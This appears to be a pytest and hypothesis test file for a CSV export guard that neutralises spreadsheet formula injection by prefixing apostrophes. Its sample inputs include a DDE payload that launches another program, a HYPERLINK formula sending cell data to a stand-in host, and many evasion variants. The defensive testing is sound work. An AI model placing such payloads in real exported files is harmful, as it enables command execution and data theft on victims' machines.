import csv
import io
import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from workbench import export

SIGNS = "=+-@|%\t\r\n\0＝＋－＠"

FORMULAS = {
    "a formula": "=1+1",
    "a call of another program": "=cmd|' /C calc'!A0",
    "a call without the equals sign": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a link that carries data away": '=HYPERLINK("http://x.example/?"&A1,"open")',
    "a plus": "+1 million",
    "a minus": "-5 degrees",
    "a dash of two hyphens": "-- Ida Quill",
    "an at sign": "@ternbayferries",
    "a pipe": "|cmd",
    "a percent sign": "%0A=1+1",
    "a tab": "\t=1+1",
    "a tab before a word": "\tword",
    "a carriage return": "\r=1+1",
    "a line feed": "\n=1+1",
    "a line end of two characters": "\r\nword",
    "NUL": "\0=1+1",
    "NUL before a word": "\0word",
    "blanks first": "   =1+1",
    "a no-break space first": "\u00a0=1+1",
    "an ideographic space first": "\u3000=1+1",
    "a byte order mark first": "\ufeff=1+1",
    "a zero-width space first": "\u200b=1+1",
    "a zero-width joiner first": "\u200d=1+1",
    "a word joiner first": "\u2060=1+1",
    "a soft hyphen first": "\u00ad=1+1",
    "a right-to-left override first": "\u202e=1+1",
    "a vertical tab first": "\v=1+1",
    "a bell first": "\a=1+1",
    "a combining mark first": "\u0301=1+1",
    "a Hangul filler first": "\u3164=1+1",
    "an empty braille cell first": "\u2800=1+1",
    "all kinds of nothing first": " \u200b\u00a0\ufeff\u2060=1+1",
    "a line separator first": "\u2028=1+1",
    "a full-width equals sign": "＝1+1",
    "a full-width plus": "＋1",
    "a full-width minus": "－1",
    "a full-width at sign": "＠SUM(1)",
    "a small plus": "﹢1",
    "a minus sign": "−1",
    "a quotation mark first": '"=1+1"',
    "an apostrophe": "'word",
    "an apostrophe before a formula": "'=1+1",
    "two apostrophes": "''",
    "one apostrophe": "'",
    "a sign alone": "=",
    "a full line, then a formula": "first line\n=1+1",
    "a carriage return, then a formula": "first line\r=1+1",
    "a semicolon, then a formula": "one;=1+1",
    "a semicolon, then a quoted formula": 'one;"=1+1"',
    "a tab, then a formula": "one\t@SUM(1)",
    "a line, then an apostrophe": "one\n'=1+1",
    "formulas all the way down": "=\n=\r\n+;-\t@;;'\n'",
}

HARMLESS = {
    "nothing": "",
    "a word": "word",
    "a blank": " ",
    "a sign inside": "1+1=2",
    "an apostrophe inside": "the mayor's",
    "quotation marks": '"quoted", she said',
    "typographic quotation marks": "‘we open in May’",
    "a comma": "one, two",
    "a semicolon": "one; two",
    "a dash": "– said the mayor",
    "paragraphs": "one\n\ntwo\r\n\r\nthree",
    "spans": "12..18;40..45",
    "an emoji": "🙂 fine",
    "Arabic": "قالت العمدة",
    "JSON": '{"note": "=1+1"}',
    "very long": "a long story " * 20_000,
}

ANY = {**FORMULAS, **HARMLESS}


def named(cells):
    return pytest.mark.parametrize("cell", cells.values(), ids=cells)


def shown(cell):
    """The cell without what a spreadsheet may drop, told by another rule than the one tested."""
    return re.sub(
        r"^[\s\u00ad\u200b-\u200f\u2028-\u202e\u2060\ufeff\u0301\u3164\u2800\v\a]+", "", cell
    )


def through_csv(cell, annotations):
    annotations[0]["note"] = cell
    return export.write_table("annotations", annotations, "csv")


@named(FORMULAS)
def test_a_cell_that_could_be_a_formula_gets_an_apostrophe(cell):
    assert export.guard(cell) != cell
    assert not export.guard(cell).startswith(tuple(SIGNS))
    assert not shown(export.guard(cell)).startswith(tuple(SIGNS))


@named(HARMLESS)
def test_other_cells_stay_as_they_are(cell):
    assert export.guard(cell) == cell


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1", "'=1"),
        ("'=1", "''=1"),
        ("a\n=1", "a\n'=1"),
        ("a\r\n=1", "a\r\n'=1"),
        ("a;=1;b", "a;'=1;b"),
        ("a\t-", "a\t'-"),
        ("\n=1", "'\n'=1"),
        ("a\n'b", "a\n''b"),
        (";=1", ";'=1"),
    ],
)
def test_each_beginning_gets_its_own_apostrophe(cell, guarded):
    assert export.guard(cell) == guarded
    assert export.unguard(guarded) == cell


@named(ANY)
def test_a_cell_comes_back_from_the_csv_as_it_was(cell, annotations):
    data = through_csv(cell, annotations)
    assert export.read_csv(data, export.STORED_TABLES["annotations"].columns) == annotations


@named(ANY)
def test_another_reader_of_the_csv_finds_no_formula(cell, annotations):
    text = through_csv(cell, annotations).decode()
    for record in csv.reader(io.StringIO(text, newline="")):
        assert not any(shown(value).startswith(tuple(SIGNS)) for value in record)


@named(ANY)
def test_a_reader_that_splits_lines_first_and_at_semicolons_finds_no_formula(cell, annotations):
    text = through_csv(cell, annotations).decode()
    for piece in re.split(r"[\r\n;\t]", text):
        assert not piece.lstrip(' "').startswith(tuple("=+-@|%\0＝＋－＠"))


# blanks, signs and breaks more often than chance has them; halves of characters too
TEXTS = st.text() | st.text(st.sampled_from([*SIGNS, *"'\";, \u200b\ufeffa🙂", "\ud800"]))


@given(TEXTS)
@example("\ud800=1")
def test_unguard_is_the_way_back_for_every_text(text):
    assert export.unguard(export.guard(text)) == text


@given(TEXTS)
def test_no_guarded_text_starts_with_a_sign(text):
    assert not export.guard(text).startswith(tuple(SIGNS))
    assert not export.guard(text).lstrip().startswith(tuple(SIGNS))


@given(TEXTS, TEXTS)
def test_different_texts_stay_different(one, other):
    assert (export.guard(one) == export.guard(other)) == (one == other)
